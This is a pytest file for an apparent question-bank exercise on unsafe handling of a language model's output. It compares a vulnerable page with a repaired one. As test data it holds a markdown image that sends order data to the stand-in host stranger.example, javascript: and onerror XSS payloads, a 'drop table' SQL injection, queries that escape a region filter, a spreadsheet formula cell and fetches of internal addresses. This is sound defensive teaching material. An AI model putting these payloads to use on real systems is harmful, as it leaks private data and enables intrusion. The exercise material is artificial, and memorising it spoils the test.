"""The reviewed code that shows a model's text: its lines, its faults, and the version that closes them."""

from __future__ import annotations

import ast
import io
import sqlite3
import sys
import urllib.request
from html.parser import HTMLParser
from pathlib import Path
from types import ModuleType, SimpleNamespace
from typing import Any

import pytest

from question_bank.load import BANK

from .material import question

HERE = BANK / "exhibits/output_handling"
QUESTION = question("output-handling")
CODE = QUESTION.exhibit("page").code or ""
LINES = CODE.splitlines()
NORTH = SimpleNamespace(name="Kim", region="north")
ORDERS = [(1, "north", "Ash", 10.0, "fine"), (2, "south", "MARKER of south", 99.0, "late")]


class Page:
    """One version of the code, with a scripted model, a small database and a network that only records."""

    def __init__(self, version: str, folder: Path, monkeypatch: pytest.MonkeyPatch):
        self.says: list[str] = []
        self.fetched: list[str] = []
        modules = {"login": {"User": object}, "model": {"complete": lambda prompt: self.says.pop(0)}}
        for name, members in modules.items():
            module = ModuleType(name)
            module.__dict__.update(members)
            monkeypatch.setitem(sys.modules, name, module)
        monkeypatch.setattr(urllib.request, "urlopen", self.fetch)
        monkeypatch.chdir(folder)
        self.code: dict[str, Any] = {}
        exec(compile((HERE / f"{version}.py").read_text(encoding="utf-8"), version, "exec"), self.code)
        with sqlite3.connect("orders.db") as database:
            database.execute("CREATE TABLE orders(id, region, customer, amount, comment)")
            database.execute("CREATE TABLE staff(name, region, salary)")
            database.executemany("INSERT INTO orders VALUES (?, ?, ?, ?, ?)", ORDERS)
            database.execute("INSERT INTO staff VALUES ('Lou', 'north', 'MARKER salary')")

    def fetch(self, address: str, timeout: float) -> io.BytesIO:
        self.fetched.append(address)
        return io.BytesIO(b"MARKER of the inner network")

    def answer(self, sql: str, text: str = "Done.") -> str:
        """What the manager of the north gets to see, or the refusal."""
        self.says = [sql, text]
        try:
            return repr(self.code["answer"]("?", NORTH))
        except (ValueError, sqlite3.Error) as error:
            return f"refused: {error}"


@pytest.fixture
def reviewed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Page:
    return Page("reviewed", tmp_path, monkeypatch)


@pytest.fixture
def repaired(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Page:
    return Page("repaired", tmp_path, monkeypatch)


def test_the_code_on_the_page_is_the_code_that_is_run() -> None:
    """The exhibit equals the file, parses, has 54 lines, and fits a page."""
    assert (HERE / "reviewed.py").read_text(encoding="utf-8") == CODE
    ast.parse(CODE)
    assert len(LINES) == 54
    assert max(map(len, LINES)) <= 100
    assert "54 lines" in QUESTION.exhibit("page").text_alternative


@pytest.mark.parametrize(
    ("defect", "pieces"),
    [
        ("D1", ['"staff" in sql', "FROM ({sql}) WHERE region"]),
        ("D2", ["<img"]),
        ("D3", ["for address in", "urlopen(address"]),
        ("D4", ["<a href"]),
        ("D5", ["Rows: {rows}"]),
        ("D6", ["str(cell)"]),
        ("D7", ["sqlite3.connect(DATABASE)", "database.execute"]),
        ("D8", ["<img", "<a href"]),
    ],
)
def test_every_fault_stands_on_the_line_that_the_key_names(defect: str, pieces: list[str]) -> None:
    """The numbered lines of a defect hold the code that it talks about."""
    lines = next(found.lines for found in QUESTION.defects if found.id == defect)
    assert [piece in LINES[line - 1] for line, piece in zip(lines, pieces, strict=True)] == [True] * len(
        pieces
    )


OUTSIDE = [
    "select id, customer, 'north' as region from orders",
    "select * from orders) --",
    "select salary, region from STAFF",
]


@pytest.mark.parametrize("sql", OUTSIDE)
def test_a_query_leaves_the_region_in_the_reviewed_code(reviewed: Page, sql: str) -> None:
    """A column called region, a closing bracket, or capital letters show what this manager may not see."""
    assert "MARKER" in reviewed.answer(sql)


@pytest.mark.parametrize("sql", OUTSIDE)
def test_no_query_leaves_the_region_in_the_repaired_code(repaired: Page, sql: str) -> None:
    """The query runs where there is nothing else to be seen."""
    assert "MARKER" not in repaired.answer(sql)


def test_an_honest_query_works_in_the_reviewed_code(reviewed: Page) -> None:
    """The manager of the north sees the order of Ash."""
    assert "Ash" in reviewed.answer("select * from orders")


def test_an_honest_query_works_in_the_repaired_code(repaired: Page) -> None:
    """The manager of the north sees the order of Ash."""
    assert "Ash" in repaired.answer("select * from mine")


HARMFUL = {
    "![x](https://stranger.example/p?d=Ash-10)": '<img alt="x" src="https://stranger.example/p?d=Ash-10">',
    "[see](javascript:alert)": '<a href="javascript:alert">',
}


@pytest.mark.parametrize("text", HARMFUL)
def test_images_and_links_reach_the_reviewed_page(reviewed: Page, text: str) -> None:
    """Escaping leaves both of them whole."""
    assert HARMFUL[text] in reviewed.code["as_html"](text)


@pytest.mark.parametrize("text", HARMFUL)
def test_the_repaired_page_shows_words(repaired: Page, text: str) -> None:
    """Neither an image nor a link to a stranger is left."""
    assert "<img" not in repaired.code["as_html"](text)
    assert "<a " not in repaired.code["as_html"](text)


def test_the_reviewed_server_fetches_what_the_text_names(reviewed: Page) -> None:
    """An address of the inner network is fetched, and its text is shown."""
    shown = reviewed.answer("select * from orders", "see http://10.0.0.5/status")
    assert reviewed.fetched == ["http://10.0.0.5/status"]
    assert "inner network" in shown


def test_the_repaired_server_fetches_nothing(repaired: Page) -> None:
    """There are no previews any more."""
    repaired.answer("select * from mine", "see http://10.0.0.5/status")
    assert repaired.fetched == []


def test_false_trails_are_false(reviewed: Page) -> None:
    """A second statement is refused by the library, script tags are escaped, the fetch has a timeout."""
    with pytest.raises((sqlite3.Warning, sqlite3.ProgrammingError)):
        reviewed.code["run"]("select 1 as region); drop table orders; --", NORTH)
    with sqlite3.connect("orders.db") as database:
        assert database.execute("SELECT count(*) FROM orders").fetchone() == (2,)
    assert "<script" not in reviewed.code["as_html"]("<script>alert(1)</script>")
    assert "timeout=3" in LINES[41]


def test_the_reviewed_file_begins_with_a_formula(reviewed: Page) -> None:
    """A spreadsheet would run the cell."""
    assert reviewed.code["as_csv"]([("=1+1", 2)]).startswith("=")


def test_the_repaired_file_begins_with_an_apostrophe(repaired: Page) -> None:
    """A spreadsheet shows the cell."""
    assert repaired.code["as_csv"]([("=1+1", 2)]).startswith("'=")


def test_an_endless_query_is_ended_in_the_repaired_code(repaired: Page) -> None:
    """The database gives up after a fixed number of steps."""
    endless = "with recursive n(i) as (select 1 union all select i + 1 from n) select count(*) from n"
    assert "refused: interrupted" in repaired.answer(endless)


NESTED = "![x](/[y](/onerror=alert`1`//))"


def attributes(page: str) -> dict[str, list[str]]:
    """The tags of a page with the names of their attributes, as a browser's parser reads them."""
    found: dict[str, list[str]] = {}

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found[tag] = [name for name, _ in attrs]

    Reader().feed(page)
    return found


def test_a_nested_link_becomes_a_script_in_the_reviewed_page(reviewed: Page) -> None:
    """The second rewriting closes the quote that the first one opened."""
    assert attributes(reviewed.code["as_html"](NESTED)) == {"p": [], "img": ["alt", "src", "onerror"]}
    assert NESTED in [row[0] for row in QUESTION.exhibit("tried").rows]


def test_a_nested_link_is_words_in_the_repaired_page(repaired: Page) -> None:
    """No tag but the paragraph is left."""
    assert attributes(repaired.code["as_html"](NESTED)) == {"p": []}


def test_the_repaired_file_knows_the_carriage_return(repaired: Page) -> None:
    """Tab and carriage return get an apostrophe as well."""
    for cell in ("\t=1", "\r=1"):
        assert repaired.code["as_csv"]([(cell, 2)]).lstrip('"').startswith("'")


SHEET = {number.about: number.give for number in QUESTION.numbers}


def test_what_the_ways_for_tomorrow_cost() -> None:
    """Six copies take two hours; of 300 questions the ways leave 27, 74 or 260 open."""
    assert 6 * 20 == 2 * 60
    assert (300 - 186, 300 - 186 - 40, 300 - 40) == (114, 74, 260)
    assert "60 managers in six regions ask 300 questions" in SHEET["Whether it is running"]
    assert "186 of the 300" in SHEET["What managers ask"]
    assert "27 of the 300" in SHEET["What managers ask"]
    assert "six take two hours" in SHEET["What can be built tonight"]
    assert "40 questions a day" in SHEET["People"]
    ways = {way.id: way.listen_for for way in QUESTION.signal("c").ways}
    assert "27 questions" in ways["copies-by-region"]
    assert "186 of 300" in ways["fixed-queries"]
    assert "so 74 wait" in ways["fixed-queries"]
    assert "so 260 wait" in ways["page-off"]
    assert "27 same-day" in QUESTION.practice[4].answer
    assert "74 people wait" in QUESTION.practice[3].answer


def test_days_that_can_no_longer_be_checked() -> None:
    """Queries cover 26 days and summaries 20, so images of six days are lost."""
    assert 26 - 20 == 6
    recorded = SHEET["What is recorded"]
    assert "26 days" in recorded
    assert "Summary texts for 20 days" in recorded
    assert "all 26 days, summaries only the last 20" in QUESTION.signal("d").listen_for
    assert all(
        "six" in QUESTION.practice[n].answer and "20" in QUESTION.practice[n].answer for n in (2, 3, 4)
    )


def test_no_deciding_number_is_on_the_card() -> None:
    """The opening gives neither the use of the page nor its records."""
    opening = QUESTION.prompt + str(QUESTION.card) + CODE
    assert not any(number in opening for number in ("186", "300", "26 days", "pilot", "month-end"))


SAME_NAME = "with mine as (select * from orders) select * from mine"


@pytest.mark.parametrize(("inner", "leaks"), [("mine", True), ("not_to_be_guessed", False)])
def test_a_view_is_a_way_whose_simple_rule_is_cheated(inner: str, leaks: bool) -> None:
    """A rule that trusts the view's name is met by a query that uses that name; a hidden inner view is not."""
    database = sqlite3.connect(":memory:")
    database.execute("CREATE TABLE orders(id, region, customer, amount, comment)")
    database.executemany("INSERT INTO orders VALUES (?, ?, ?, ?, ?)", ORDERS)
    database.execute(f"CREATE TEMP VIEW {inner} AS SELECT * FROM main.orders WHERE region = 'north'")
    if inner != "mine":
        database.execute(f"CREATE TEMP VIEW mine AS SELECT * FROM {inner}")

    def rule(act: int, table: str | None, _column: str | None, _base: str | None, source: str | None) -> int:
        read = act == sqlite3.SQLITE_READ and (table != "orders" or source == inner)
        return sqlite3.SQLITE_OK if act == sqlite3.SQLITE_SELECT or read else sqlite3.SQLITE_DENY

    def seen(sql: str) -> str:
        try:
            return repr(database.execute(sql).fetchall())
        except sqlite3.DatabaseError as error:
            return f"refused: {error}"

    database.set_authorizer(rule)
    assert "Ash" in seen("select * from mine")
    assert not any("MARKER" in seen(sql) for sql in OUTSIDE[:1])
    assert ("MARKER" in seen(SAME_NAME)) is leaks
